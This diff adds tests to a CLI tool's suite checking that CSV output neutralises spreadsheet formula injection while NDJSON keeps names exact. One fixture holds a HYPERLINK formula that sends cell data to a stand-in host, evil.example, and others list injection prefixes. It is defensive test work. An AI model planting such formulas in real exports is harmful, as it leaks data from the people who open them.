@@ -48,6 +48,35 @@ describe('fire-check batch (built binary)', () => {
     expect(result.stderr).toBe('scored 5, failed 0\n');
   });
 
+  it("CSV out never holds a live formula: the issue's example", () => {
+    const dir = mkdtempSync(`${tmpdir()}/fire-check-`);
+    writeFileSync(`${dir}/f.csv`, 'client,pays_late\n"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",often\n');
+    const result = runCli(['batch', `${dir}/f.csv`, '--format', 'csv']);
+    rmSync(dir, { recursive: true });
+    expect(result.stdout.split('\n')[1]).toBe(`2,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",fix,8,0.04,Pays late: often,`);
+  });
+
+  it('a formula in every form is neutralised in CSV out; NDJSON out keeps the exact name', () => {
+    // [client in, client in CSV out, client in NDJSON out (names are trimmed when read)]
+    const cases = [
+      ['=1+1', "'=1+1", '=1+1'],
+      ['+1+1', "'+1+1", '+1+1'],
+      ['-1+1', "'-1+1", '-1+1'],
+      ['@SUM(A1)', "'@SUM(A1)", '@SUM(A1)'],
+      ['\t=1+1', "'=1+1", '=1+1'],
+      ['\r=1+1', "'=1+1", '=1+1'],
+      ['   =1+1', "'=1+1", '=1+1'],
+      ['A\t=1+1', "A\t'=1+1", 'A\t=1+1'],
+      ['Acme;=1+1', "Acme;'=1+1", 'Acme;=1+1'],
+      ['Caffè Società', 'Caffè Società', 'Caffè Società'],
+    ];
+    const input = cases.map(([client]) => JSON.stringify({ client, answers: { pays_late: 'often' } })).join('\n');
+    const csv = parse(runCli(['batch', '--format', 'csv'], { input }).stdout, { columns: true }) as Record<string, string>[];
+    expect(csv.map((r) => [r.client, r.score])).toEqual(cases.map(([, out]) => [out, '8']));
+    const ndjson = runCli(['batch', '--format', 'ndjson'], { input }).stdout.trim().split('\n');
+    expect(ndjson.map((l) => JSON.parse(l).client)).toEqual(cases.map(([, , exact]) => exact));
+  });
+
   it('a ranked table, worst first', () => {
     const result = runCli(['batch', 'examples/clients.csv', '--format', 'table']);
     const clients = result.stdout.trim().split('\n').slice(2).map((l) => l.split(/\s{2,}/)[1]);
